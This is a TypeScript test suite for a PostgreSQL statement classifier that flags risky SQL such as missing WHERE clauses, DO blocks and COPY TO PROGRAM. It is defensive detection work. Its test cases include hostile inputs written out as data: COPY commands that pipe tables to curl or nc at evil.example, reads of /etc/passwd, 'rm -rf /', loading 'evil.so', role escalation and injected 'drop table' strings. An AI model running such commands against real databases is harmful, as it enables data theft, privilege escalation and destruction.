import { before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { classifySql, initSqlClassifier, MAX_CLASSIFIED_CHARS, SQL_FLAGS, sqlClassifierStats, sqlStatementNames } from '../../src/classify/sql.ts';
import type { SqlFlag } from '../../src/classify/sql.ts';
import { classifyText } from '../../src/classify/sql/classify-text.ts';

interface Case {
  readonly sql: string;
  readonly kinds: readonly string[];
  readonly tables?: readonly string[];
  readonly functions?: readonly string[];
  /** Defaults to true. */
  readonly hasWhere?: boolean;
  /** The flags that must be true; every other flag must be false. */
  readonly flags?: readonly SqlFlag[];
  readonly multi?: boolean;
}

const cases: readonly Case[] = [
  // plain statements
  { sql: 'select 1', kinds: ['select'] },
  { sql: 'SELECT * FROM users WHERE id = 1', kinds: ['select'], tables: ['users'], flags: ['select_star'] },
  { sql: 'select id from public.users limit 10', kinds: ['select'], tables: ['public.users'], flags: ['has_limit'] },
  { sql: 'select * from db1.s.t', kinds: ['select'], tables: ['db1.s.t'], flags: ['select_star'] },
  { sql: 'select u.* from users u join orders o on o.uid = u.id', kinds: ['select'], tables: ['users', 'orders'], flags: ['select_star'] },
  { sql: 'select count(*) from t', kinds: ['select'], tables: ['t'], functions: ['count'] },
  { sql: 'values (1), (2)', kinds: ['select'] },
  { sql: 'insert into t (a) values (1)', kinds: ['insert'], tables: ['t'] },
  { sql: 'insert into t select * from u', kinds: ['insert', 'select'], tables: ['t', 'u'], flags: ['select_star'] },
  { sql: 'insert into t values (1) on conflict (id) do update set a = 2', kinds: ['insert', 'update'], tables: ['t'] },
  { sql: 'insert into t values (1) on conflict do nothing', kinds: ['insert'], tables: ['t'] },
  { sql: 'update t set a = 1 where id = 2', kinds: ['update'], tables: ['t'] },
  { sql: 'update t set a = 1', kinds: ['update'], tables: ['t'], hasWhere: false },
  // tautologies select every row: they count as no WHERE at all
  { sql: 'delete from t where true', kinds: ['delete'], tables: ['t'], hasWhere: false },
  { sql: 'update t set a = 1 where 1 = 1', kinds: ['update'], tables: ['t'], hasWhere: false },
  { sql: "delete from t where 'a' = 'a' or false", kinds: ['delete'], tables: ['t'], hasWhere: false },
  { sql: 'delete from t where id in (select id from u)', kinds: ['delete', 'select'], tables: ['t', 'u'] },
  { sql: 'merge into t using s on true when matched then delete', kinds: ['merge', 'delete'], tables: ['t', 's'], hasWhere: false },
  { sql: 'merge into t using s on 1 = 1 when matched then update set a = 1', kinds: ['merge', 'update'], tables: ['t', 's'], hasWhere: false },
  { sql: 'merge into t using s on true when matched and t.x > 1 then delete', kinds: ['merge', 'delete'], tables: ['t', 's'] },
  { sql: 'UPDATE t SET a = 1 WHERE CURRENT OF c', kinds: ['update'], tables: ['t'] },
  { sql: 'delete from t where id = 1', kinds: ['delete'], tables: ['t'] },
  { sql: 'delete from t using u where t.id = u.id', kinds: ['delete'], tables: ['t', 'u'] },
  {
    sql: 'merge into t using s on t.id = s.id when matched then delete when not matched then insert values (s.id)',
    kinds: ['merge', 'delete', 'insert'],
    tables: ['t', 's'],
  },
  // case, quoting, comments, unicode escapes
  { sql: 'dElEtE fRoM Accounts', kinds: ['delete'], tables: ['accounts'], hasWhere: false },
  { sql: 'select * from "Users"', kinds: ['select'], tables: ['Users'], flags: ['select_star'] },
  { sql: 'SELECT * FROM "public"."Users"', kinds: ['select'], tables: ['public.Users'], flags: ['select_star'] },
  { sql: 'select "DELETE" from "DELETE"', kinds: ['select'], tables: ['DELETE'] },
  { sql: '/* harmless */ delete /* really */ from t', kinds: ['delete'], tables: ['t'], hasWhere: false },
  { sql: '-- just a read\ndelete from t', kinds: ['delete'], tables: ['t'], hasWhere: false },
  { sql: '/* outer /* nested */ still a comment; select 1 */ drop table t', kinds: ['drop'], tables: ['t'] },
  { sql: 'select 1 -- ; drop table t', kinds: ['select'] },
  { sql: 'select * from U&"d\\0061ta"', kinds: ['select'], tables: ['data'], flags: ['select_star'] },
  { sql: "select U&'\\0044ROP TABLE t'", kinds: ['select'] },
  { sql: 'select * from ユーザー', kinds: ['select'], tables: ['ユーザー'], flags: ['select_star'] },
  // several statements, and text that only looks like several
  { sql: 'select 1; drop table t', kinds: ['select', 'drop'], tables: ['t'], multi: true },
  { sql: 'select 1;;', kinds: ['select'] },
  { sql: "select 'a; drop table t'", kinds: ['select'] },
  { sql: "select ';' as semi; ", kinds: ['select'] },
  { sql: 'select $$ DROP TABLE users $$', kinds: ['select'] },
  { sql: 'select $tag$ ; delete from t; $tag$ as x', kinds: ['select'] },
  { sql: 'begin; delete from t where id = 1; commit', kinds: ['transaction', 'delete'], tables: ['t'], multi: true },
  // CTEs: data-changing statements under a SELECT, and CTE names that are not tables
  { sql: 'WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x', kinds: ['select', 'delete'], tables: ['t'], hasWhere: false, flags: ['select_star'] },
  { sql: 'with u as (update t set a = 1 where id = 2 returning id) select id from u', kinds: ['select', 'update'], tables: ['t'] },
  { sql: 'with u as (update t set a = 1 returning id) select id from u', kinds: ['select', 'update'], tables: ['t'], hasWhere: false },
  {
    sql: 'select * from t where id in (with d as (delete from u returning id) select id from d)',
    kinds: ['select', 'delete'],
    tables: ['t', 'u'],
    hasWhere: false,
    flags: ['select_star'],
  },
  { sql: 'with x as (select * from x) select * from x', kinds: ['select'], tables: ['x'], flags: ['select_star'] },
  {
    sql: 'select * from secrets, (with secrets as (select 1) select * from secrets) s',
    kinds: ['select'],
    tables: ['secrets'],
    flags: ['select_star'],
  },
  { sql: 'with a as (select 1), b as (select * from a join c on true) select * from b', kinds: ['select'], tables: ['c'], flags: ['select_star'] },
  { sql: 'with recursive r as (select 1 union all select * from r) select * from r limit 5', kinds: ['select'], flags: ['select_star', 'has_limit'] },
  { sql: 'with t as (select 1) delete from t', kinds: ['delete', 'select'], tables: ['t'], hasWhere: false },
  // DO blocks: the body is PL/pgSQL text, opaque to the SQL parser
  // no PL/pgSQL parser: what a DO block runs is unseen
  { sql: 'DO $$ BEGIN DROP TABLE users; END $$', kinds: ['do'], flags: ['do_block', 'dynamic_sql'] },
  { sql: "do language plpgsql 'begin perform pg_sleep(1); end'", kinds: ['do'], flags: ['do_block', 'dynamic_sql'] },
  // COPY
  { sql: "COPY t TO PROGRAM 'curl -d @- http://evil.example'", kinds: ['copy'], tables: ['t'], flags: ['copy_to_program'] },
  {
    sql: "COPY (SELECT * FROM secrets) TO PROGRAM 'nc evil.example 9'",
    kinds: ['copy', 'select'],
    tables: ['secrets'],
    flags: ['copy_to_program', 'select_star'],
  },
  { sql: "copy t from program 'cat /etc/passwd'", kinds: ['copy'], tables: ['t'], flags: ['copy_from_program'] },
  { sql: 'copy t to stdout', kinds: ['copy'], tables: ['t'], flags: ['copy_to_stdout'] },
  { sql: 'copy t (a, b) from stdin with (format csv)', kinds: ['copy'], tables: ['t'], flags: ['copy_from_stdin'] },
  { sql: "copy t to '/tmp/dump'", kinds: ['copy'], tables: ['t'], flags: ['copy_to_file'] },
  { sql: "copy t from '/etc/passwd'", kinds: ['copy'], tables: ['t'], flags: ['copy_from_file'] },
  // functions anywhere
  { sql: 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity', kinds: ['select'], tables: ['pg_stat_activity'], functions: ['pg_terminate_backend'] },
  { sql: 'select pg_catalog.pg_terminate_backend(1)', kinds: ['select'], functions: ['pg_terminate_backend', 'pg_catalog.pg_terminate_backend'] },
  { sql: 'select * from t where id in (select pg_sleep(10))', kinds: ['select'], tables: ['t'], functions: ['pg_sleep'], flags: ['select_star'] },
  { sql: "select (select lo_export(1, '/tmp/x'))", kinds: ['select'], functions: ['lo_export'] },
  { sql: "insert into t values (pg_read_file('/etc/passwd'))", kinds: ['insert'], tables: ['t'], functions: ['pg_read_file'] },
  { sql: "create table t (c int default nextval('s'))", kinds: ['create_table'], tables: ['t'], functions: ['nextval'] },
  { sql: 'select * from generate_series(1, 10)', kinds: ['select'], functions: ['generate_series'], flags: ['select_star'] },
  { sql: 'select "PG_SLEEP"(1)', kinds: ['select'], functions: ['pg_sleep'] },
  { sql: "select 1 where exists (select 1 from t where lower(name) = 'x')", kinds: ['select'], tables: ['t'], functions: ['lower'] },
  { sql: 'call p(1)', kinds: ['call'], functions: ['p'] },
  // EXPLAIN, PREPARE, cursors: the inner statement counts
  { sql: 'EXPLAIN ANALYZE DELETE FROM t', kinds: ['explain', 'delete'], tables: ['t'], hasWhere: false },
  { sql: 'explain select * from t', kinds: ['explain', 'select'], tables: ['t'], flags: ['select_star'] },
  { sql: 'PREPARE p AS DELETE FROM t', kinds: ['prepare', 'delete'], tables: ['t'], hasWhere: false },
  { sql: 'prepare q (int) as select * from t where id = $1', kinds: ['prepare', 'select'], tables: ['t'], flags: ['select_star'] },
  { sql: 'EXECUTE p(1)', kinds: ['execute'] },
  { sql: 'deallocate all', kinds: ['deallocate'] },
  { sql: 'declare c cursor for select * from t', kinds: ['declare_cursor', 'select'], tables: ['t'], flags: ['select_star'] },
  { sql: 'fetch 10 from c', kinds: ['fetch'] },
  { sql: 'move c', kinds: ['fetch'] },
  { sql: 'close c', kinds: ['close_cursor'] },
  // DDL
  { sql: 'CREATE TABLE x AS SELECT * FROM t', kinds: ['create_table', 'select'], tables: ['x', 't'], flags: ['select_star'] },
  { sql: 'SELECT a INTO newt FROM t', kinds: ['select', 'create_table'], tables: ['newt', 't'] },
  { sql: 'create materialized view mv as select 1', kinds: ['create_view', 'select'], tables: ['mv'] },
  { sql: 'create view v as select a from t', kinds: ['create_view', 'select'], tables: ['v', 't'] },
  { sql: 'create index i on t (c)', kinds: ['create_index'], tables: ['t'] },
  { sql: 'create schema s', kinds: ['create_schema'] },
  { sql: 'create extension dblink', kinds: ['create_extension'] },
  // a SQL-language body is classified like any SQL text
  { sql: "create function f() returns int language sql as 'select 1'", kinds: ['create_function', 'select'] },
  { sql: 'create sequence s', kinds: ['create_other'], tables: ['s'] },
  { sql: 'create trigger tr after insert on t for each row execute function f()', kinds: ['create_other', 'create_trigger'], tables: ['t'] },
  { sql: 'create event trigger e on ddl_command_start execute function f()', kinds: ['create_other', 'create_event_trigger'] },
  { sql: 'create rule r as on select to t do instead nothing', kinds: ['create_other', 'create_rule'], tables: ['t'] },
  { sql: "create procedure p() language sql as 'select 1'", kinds: ['create_function', 'create_procedure', 'select'] },
  { sql: 'create database d', kinds: ['create_other', 'create_database'] },
  { sql: 'alter table t add column c int', kinds: ['alter_table'], tables: ['t'] },
  { sql: 'alter table t rename to u', kinds: ['alter_table'], tables: ['t'] },
  { sql: 'alter view v rename to w', kinds: ['alter_other'], tables: ['v'] },
  { sql: 'alter system set work_mem = 1', kinds: ['alter_other', 'alter_system'] },
  { sql: 'alter database d owner to x', kinds: ['alter_other', 'alter_database'] },
  { sql: 'alter database d set work_mem = 1', kinds: ['alter_other', 'alter_database'] },
  { sql: 'drop database d', kinds: ['drop', 'drop_database'] },
  { sql: 'drop owned by alice', kinds: ['drop', 'drop_owned'] },
  { sql: 'reassign owned by alice to mallory', kinds: ['reassign_owned'] },
  { sql: 'drop table if exists a, s.b cascade', kinds: ['drop'], tables: ['a', 's.b'] },
  { sql: 'drop function f()', kinds: ['drop'] },
  { sql: 'truncate t1, t2', kinds: ['truncate'], tables: ['t1', 't2'] },
  { sql: "comment on table t is 'x'", kinds: ['comment'] },
  // roles and privileges
  { sql: 'GRANT SELECT ON t TO bob', kinds: ['grant'], tables: ['t'] },
  { sql: 'REVOKE ALL ON t FROM bob', kinds: ['revoke'], tables: ['t'] },
  { sql: 'grant pg_read_server_files to bob', kinds: ['grant', 'grant_role'] },
  { sql: 'revoke admin from bob', kinds: ['revoke', 'revoke_role'] },
  { sql: 'alter role bob set search_path = evil', kinds: ['alter_role', 'alter_role_set'] },
  { sql: 'ALTER ROLE bob SUPERUSER', kinds: ['alter_role'] },
  { sql: "alter user bob with password 'x'", kinds: ['alter_role'] },
  { sql: 'alter role bob rename to alice', kinds: ['alter_role'] },
  { sql: 'create user eve superuser', kinds: ['create_role', 'create_user'] },
  { sql: 'create group g', kinds: ['create_role', 'create_group'] },
  { sql: 'drop role eve', kinds: ['drop_role'] },
  // session settings and the rest
  { sql: 'SET ROLE postgres', kinds: ['set', 'set_role'] },
  { sql: 'set local role postgres', kinds: ['set', 'set_role'] },
  { sql: 'SET SESSION AUTHORIZATION postgres', kinds: ['set', 'set_session_authorization'] },
  { sql: 'reset session authorization', kinds: ['reset'] },
  { sql: 'SET search_path TO evil, public', kinds: ['set'] },
  { sql: 'reset role', kinds: ['reset'] },
  { sql: 'reset all', kinds: ['reset'] },
  { sql: 'show search_path', kinds: ['show'] },
  { sql: 'savepoint a; rollback to a', kinds: ['transaction'], multi: true },
  { sql: 'listen ch; notify ch, $$x$$; unlisten *', kinds: ['listen', 'notify', 'unlisten'], multi: true },
  { sql: 'lock table t in access exclusive mode', kinds: ['lock'], tables: ['t'] },
  { sql: 'vacuum full t', kinds: ['vacuum'], tables: ['t'] },
  { sql: 'analyze t', kinds: ['analyze'], tables: ['t'] },
  { sql: 'discard all', kinds: ['discard'] },
  { sql: "load 'evil.so'", kinds: ['load'] },
  { sql: 'checkpoint', kinds: ['other'] },
  // LIMIT
  { sql: 'select 1 fetch first 1 rows only', kinds: ['select'], flags: ['has_limit'] },
  { sql: 'select 1 limit $1', kinds: ['select'], flags: ['has_limit'] },
  { sql: 'select * from a union all select * from b limit all', kinds: ['select'], tables: ['a', 'b'], flags: ['select_star'] },
  { sql: 'select * from t limit 1; select * from u', kinds: ['select'], tables: ['t', 'u'], flags: ['select_star'], multi: true },
  { sql: 'select * from (select * from t limit 1) s', kinds: ['select'], tables: ['t'], flags: ['select_star'] },
  // nothing to run
  { sql: '', kinds: [], flags: ['empty'] },
  { sql: '   \n\t ', kinds: [], flags: ['empty'] },
  { sql: '-- only a comment', kinds: [], flags: ['empty'] },
  { sql: '/* only */ /* comments */', kinds: [], flags: ['empty'] },
];

/** Text PostgreSQL would reject: no facts, and the parser's reason. */
const unparseable: readonly string[] = [
  '\\! rm -rf /',
  '\\dt',
  '\\c other_db',
  'select from where',
  'delete t',
  'select * from t where',
  "select 'unterminated",
  'select 1\0; drop table t',
  '/* unterminated comment drop table t',
];

describe('classifySql before initSqlClassifier', () => {
  it('refuses to guess instead of throwing', () => {
    const facts = classifySql('select 1');
    assert.deepEqual(facts.kinds, []);
    assert.equal(facts.flags['parse_error'], true);
    assert.match(facts.parseError ?? '', /not initialised/);
  });
});

describe('classifySql', () => {
  before(async () => {
    await initSqlClassifier();
  });

  it(`has at least 60 cases (${cases.length})`, () => {
    assert.ok(cases.length >= 60);
  });

  for (const c of cases) {
    it(JSON.stringify(c.sql), () => {
      const facts = classifySql(c.sql);
      assert.equal(facts.parseError, null);
      assert.equal(facts.text, c.sql);
      assert.deepEqual(facts.kinds, c.kinds, 'kinds');
      assert.deepEqual([...facts.tables].sort(), [...(c.tables ?? [])].sort(), 'tables');
      assert.deepEqual([...facts.functions].sort(), [...(c.functions ?? [])].sort(), 'functions');
      assert.equal(facts.hasWhere, c.hasWhere ?? true, 'hasWhere');
      assert.equal(facts.multiStatement, c.multi ?? false, 'multiStatement');
      const expected = Object.fromEntries(SQL_FLAGS.map((f) => [f, (c.flags ?? []).includes(f)]));
      assert.deepEqual(facts.flags, expected, 'flags');
    });
  }

  for (const sql of unparseable) {
    it(`rejects ${JSON.stringify(sql)}`, () => {
      const facts = classifySql(sql);
      assert.deepEqual(facts.kinds, []);
      assert.deepEqual(facts.tables, []);
      assert.equal(typeof facts.parseError, 'string');
      assert.ok(facts.parseError!.length > 0);
      assert.equal(facts.flags['parse_error'], true);
      assert.equal(facts.flags['empty'], false);
    });
  }

  it('names the prepared statements and cursors a text defines and uses, at any depth', () => {
    const none = { prepared: [], executed: [], declared: [], fetched: [] };
    assert.deepEqual(sqlStatementNames(classifySql('PREPARE p (int) AS DELETE FROM t WHERE id = $1')), { ...none, prepared: ['p'] });
    assert.deepEqual(sqlStatementNames(classifySql('explain analyze execute p(1); execute "Q"')), { ...none, executed: ['p', 'Q'] });
    assert.deepEqual(sqlStatementNames(classifySql('create table x as execute p')).executed, ['p']);
    assert.deepEqual(sqlStatementNames(classifySql('declare c binary cursor for select * from t; fetch 2 from c; move next in "C"')), {
      ...none,
      declared: ['c'],
      fetched: ['c', 'C'],
    });
    assert.deepEqual(sqlStatementNames(classifySql('select 1')), none);
  });

  it(`classifies text longer than ${MAX_CLASSIFIED_CHARS} characters as unparseable without parsing it`, () => {
    const sql = `select 1 -- ${'x'.repeat(MAX_CLASSIFIED_CHARS)}`;
    const parsedBefore = sqlClassifierStats().parsed;
    const facts = classifySql(sql);
    assert.equal(sqlClassifierStats().parsed, parsedBefore, 'refused without a parse');
    assert.equal(facts.flags['parse_error'], true);
    assert.match(facts.parseError ?? '', /exceeds the classifier's limit/);
    // Just under the limit is parsed (and the counter can tell: a text this long is never cached).
    const under = `select 1 -- ${'x'.repeat(MAX_CLASSIFIED_CHARS - 20)}`;
    assert.equal(classifySql(under).parseError, null);
    assert.equal(sqlClassifierStats().parsed, parsedBefore + 1);
  });

  it('reports the parser message', () => {
    assert.equal(classifySql('select from where').parseError, 'syntax error at or near "where"');
  });

  it('reports kinds in statement order, once each', () => {
    assert.deepEqual(classifySql('drop table a; select 1; drop table b; insert into c values (1)').kinds, ['drop', 'select', 'insert']);
  });

  it('walks expressions thousands of levels deep without overflowing', () => {
    const facts = classifySql(`select ${'1+'.repeat(5000)}abs(1)`);
    assert.equal(facts.parseError, null);
    assert.deepEqual(facts.kinds, ['select']);
    assert.deepEqual(facts.functions, ['abs']);
  });

  it('finds a DELETE nested deep in subqueries', () => {
    let sql = 'with d as (delete from victims returning 1) select * from d';
    for (let i = 0; i < 200; i++) sql = `select * from (${sql}) s${i}`;
    const facts = classifySql(sql);
    assert.ok(facts.kinds.includes('delete'));
    assert.equal(facts.hasWhere, false);
    assert.deepEqual(facts.tables, ['victims']);
  });

  it('returns the same frozen facts for a repeated statement', () => {
    const sql = 'UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2';
    const first = classifySql(sql);
    assert.equal(classifySql(sql), first);
    assert.ok(Object.isFrozen(first) && Object.isFrozen(first.kinds) && Object.isFrozen(first.flags));
    assert.notEqual(classifySql(sql + ' '), first, 'a different text is classified on its own');
  });

  it('never throws, whatever the text', () => {
    const samples = ['\uFFFF', '\uD800', 'select \u0000', '$$', "E'\\", 'select ' + '('.repeat(20000), 'x'.repeat(100000)];
    for (const s of samples) assert.doesNotThrow(() => classifySql(s));
  });
});

describe('classifySql caches by statement shape', () => {
  before(async () => {
    await initSqlClassifier();
  });

  /** Texts this describe has not classified before (the cache lives as long as the module). */
  let serial = 0;
  const fresh = (sql: string) => sql.replaceAll('$t', `shape_${++serial}`);

  /** How many of `texts`, classified in order, were parsed; and their facts. */
  function classify(texts: readonly string[]) {
    const before = sqlClassifierStats().parsed;
    const facts = texts.map((text) => classifySql(text));
    return { parsed: sqlClassifierStats().parsed - before, facts };
  }

  it('parses once for statements that differ only in their literals', () => {
    const template = fresh('UPDATE $t SET abalance = abalance + :delta WHERE aid = :aid;');
    const texts = Array.from({ length: 50 }, (_, i) => template.replace(':delta', String(i * 37)).replace(':aid', String(i * 7919)));
    const { parsed, facts } = classify(texts);
    assert.equal(parsed, 1);
    // a minus sign is an operator, part of the shape: a negative delta is a second shape
    assert.equal(classify([template.replace(':delta', '-5').replace(':aid', '1'), template.replace(':delta', '-6').replace(':aid', '2')]).parsed, 1);
    facts.forEach((f, i) => {
      assert.equal(f.text, texts[i], 'each carries its own text');
      assert.ok(Object.isFrozen(f));
      assert.deepEqual({ ...f, text: null }, { ...classifyText(texts[i]!).facts, text: null });
    });
  });

  const differ: readonly (readonly [string, string])[] = [
    ['delete from $t where id = 1', 'delete from $t_other where id = 1'],
    ['select * from $t where a = 1', 'select * from $t where a > 1'],
    ['select * from $t where a = 1', "select * from $t where a = '1'"],
    ['select * from $t where a in (1, 2)', 'select * from $t where a in (1, 2, 3)'],
    ['select * from $t where a = 1; select 2', 'select * from $t where a = 1; delete from $t'],
  ];
  for (const [a, b] of differ) {
    it(`never answers ${JSON.stringify(b)} with the facts of ${JSON.stringify(a)}`, () => {
      const table = fresh('$t');
      assert.equal(classify([a, b].map((t) => t.replaceAll('$t', table))).parsed, 2);
    });
  }

  const tautologies: readonly (readonly [string, string])[] = [
    ['DELETE FROM $t WHERE 1 = 2', 'DELETE FROM $t WHERE 1 = 1'],
    ['DELETE FROM $t WHERE 1 = 1', 'DELETE FROM $t WHERE 1 = 2'],
    ["DELETE FROM $t WHERE 'a' = 'b'", "DELETE FROM $t WHERE 'a' = 'a'"],
    ["DELETE FROM $t WHERE 'a' = 'a'", "DELETE FROM $t WHERE 'a' = 'b'"],
    ['UPDATE $t SET a = 1 WHERE 2 > 3', 'UPDATE $t SET a = 2 WHERE 3 > 2'],
  ];
  for (const [first, second] of tautologies) {
    it(`classifies ${JSON.stringify(second)} after ${JSON.stringify(first)} as it would alone: no WHERE`, () => {
      const table = fresh('$t');
      const { facts } = classify([first, second].map((t) => t.replaceAll('$t', table)));
      for (const f of facts) {
        assert.equal(f.hasWhere, false, f.text);
        assert.equal(classifyText(f.text).facts.hasWhere, false, f.text);
      }
    });
  }

  it('shares across strings holding quotes, comment markers, semicolons and $n', () => {
    const template = fresh("select * from $t where note = :s");
    const strings = ["'plain'", "'it''s'", "'-- not a comment'", "'/* nor this'", "'; drop table users'", "'$1'", "'\"'"];
    const { parsed, facts } = classify(strings.map((str) => template.replace(':s', str)));
    assert.equal(parsed, 1);
    for (const f of facts) assert.deepEqual([f.kinds, f.tables, f.multiStatement], [['select'], [template.match(/shape_\d+/)![0]], false]);
  });

  it('parses every text it cannot shape, and still caches each by its exact text', () => {
    const table = fresh('$t');
    const texts = [`select $$a$$ from ${table}`, `select $$b$$ from ${table}`, `select E'a' from ${table}`, `select E'b' from ${table}`];
    assert.equal(classify(texts).parsed, 4);
    assert.equal(classify(texts).parsed, 0);
  });

  it('shares multi-statement texts only statement for statement', () => {
    const template = fresh('select a from $t where id = :a; update $t set a = :b where id = :c');
    const { parsed, facts } = classify([1, 2, 3].map((n) => template.replace(':a', `${n}`).replace(':b', `${n + 1}`).replace(':c', `'${n}'`)));
    assert.equal(parsed, 1);
    for (const f of facts) assert.deepEqual([f.kinds, f.multiStatement], [['select', 'update'], true]);
    assert.equal(classify([template.replace(':a', '1').replace(':b', '2').replace(':c', '3')]).parsed, 1, "'3' and 3 are different shapes");
  });

  it('keeps the prepared-statement and cursor names on facts from a shared shape', () => {
    const name = fresh('$t');
    const { parsed, facts } = classify([`PREPARE ${name} AS DELETE FROM t WHERE id = 1`, `PREPARE ${name} AS DELETE FROM t WHERE id = 2`]);
    assert.equal(parsed, 1);
    assert.deepEqual(sqlStatementNames(facts[1]!).prepared, [name]);
    const executed = classify([`EXECUTE ${name}(1)`, `EXECUTE ${name}(2)`]);
    assert.equal(executed.parsed, 1);
    assert.deepEqual(sqlStatementNames(executed.facts[1]!).executed, [name]);
  });

  it('never shares a parse error: its message quotes the text', () => {
    const table = fresh('$t');
    const { parsed, facts } = classify([`select 1 2 from ${table}`, `select 3 4 from ${table}`]);
    assert.equal(parsed, 2);
    assert.deepEqual(
      facts.map((f) => f.parseError),
      ['syntax error at or near "2"', 'syntax error at or near "4"'],
    );
  });
});
